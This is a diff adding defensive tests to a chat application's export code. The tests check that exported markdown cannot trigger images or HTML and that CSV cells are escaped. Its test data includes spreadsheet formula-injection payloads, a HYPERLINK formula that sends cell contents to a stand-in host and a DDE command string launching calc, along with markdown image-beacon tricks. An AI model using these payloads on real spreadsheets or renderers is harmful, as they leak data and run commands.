@@ -13,6 +13,7 @@ from desktop.core.blocks import parsed
 from desktop.core.cells import as_csv, as_tsv, cells
 from desktop.core.colouring import Code, coloured, suffix_of
 from desktop.core.conversation import Conversation
+from desktop.core.dialect import parser
 from desktop.core.export import Exported, file_name, from_plain, to_html, to_markdown, to_plain
 from desktop.core.html import html_of
 from desktop.core.inert import inert
@@ -142,6 +143,11 @@ def test_what_is_no_export_is_refused(held: object) -> None:
         ("pinned", "yes"),
         ("parent", None),
         ("conversation_id", "other"),
+        ("first_word_s", "x"),
+        ("retry_s", float("inf")),
+        ("answer", "a\ud800"),
+        ("trouble", {"kind": "left", "name": "", "detail": "", "status": 0, "code": "", "seconds": "x"}),
+        ("trouble", {"kind": "left", "name": "", "detail": 5, "status": 0, "code": "", "seconds": 0}),
         ("pictures", [{"id": "../../x", "mime": "image/png", "width": 1, "height": 1, "bytes": 1}]),
         ("pictures", [{"id": "a" * 64, "mime": "text/html", "width": 1, "height": 1, "bytes": 1}]),
     ],
@@ -153,10 +159,56 @@ def test_a_turn_that_makes_no_sense_is_refused(field: str, value: object) -> Non
         from_plain(held)
 
 
+def test_an_answer_that_is_still_coming_goes_out_as_stopped() -> None:
+    coming = Turn.new("c", "q", "m", "h", 1.0).hearing("so far", 0.1)
+    held = json.loads(json.dumps(to_plain(Exported((Conversation("c", (coming,)),), {}))))
+    (back,) = from_plain(held).conversations[0].turns
+    assert (back.stage, back.answer) == (Stage.STOPPED, "so far")
+
+
 def test_a_picture_under_another_name_is_left_out() -> None:
     held = json.loads(json.dumps(to_plain(Exported((conversation(),), {}))))
     held["pictures"] = {"a" * 64: "AAAA"}
     assert from_plain(held).pictures == {}
+
+
+LIVELY = parser.__wrapped__()
+LIVELY.options["html"] = True
+
+
+def acts(markdown: str) -> bool:
+    tokens = LIVELY.parse(markdown)
+    kinds = {each.type for token in tokens for each in (token, *(token.children or ()))}
+    return bool(kinds & {"image", "html_inline", "html_block"})
+
+
+@pytest.mark.parametrize(
+    "tricky",
+    [
+        r"\![x](http://e/t.png)",
+        r"\\![x](http://e/t.png)",
+        "\\`![x](http://e/t.png)\\`",
+        r"\\<img src=http://e/x>",
+        "a `b\nc` ![x](http://e/t.png) `d`",
+        "a `b\n\nc` ![x](http://e/t.png) `d`",
+        "`` ` ![x](http://e/t.png)",
+        "<div>\n\n![x](y)\n\n</div>",
+        "- `a\n- ![x](http://e/t.png)`",
+        "```\nopen ![x](y)",
+        "    ![code](x)\n\ntext ![x](y)",
+        "[a]: <x> '`'\n![a] `",
+        "| `a | ![x](y) |\n|---|---|\n| b` | <b> |",
+        *PAYLOADS,
+    ],
+)
+def test_markdown_that_goes_out_does_nothing_in_other_programs(tricky: str) -> None:
+    assert not acts(inert(harmless(tricky)))
+
+
+@settings(deadline=None)
+@given(st.text(alphabet="`\\!<[](x) \n>/a|", max_size=40))
+def test_no_text_gets_through(text: str) -> None:
+    assert not acts(inert(text))
 
 
 @settings(deadline=None)
@@ -172,6 +224,9 @@ def test_tables_for_spreadsheets() -> None:
     rows = cells(block)
     assert rows[4] == ("-cmd", "y")
     assert as_tsv(rows).split("\n")[1] == "'=SUM(A1)\t1,5"
+    for cell in ('+1+HYPERLINK("http://e/"&A1)', "-2+3+cmd|' /C calc'!A0", "=1", "@x"):
+        assert as_csv(((cell,),)).lstrip('"').startswith("'")
+    assert as_csv((("-3.5 %", "+1,000", "a;=B1"),)) == '-3.5 %,"+1,000","a;=B1"'
     assert as_csv(rows).split("\n") == ["a,b", '\'=SUM(A1),"1,5"', '"""q""",-3', "'@x,+49", "'-cmd,y"]
 
 
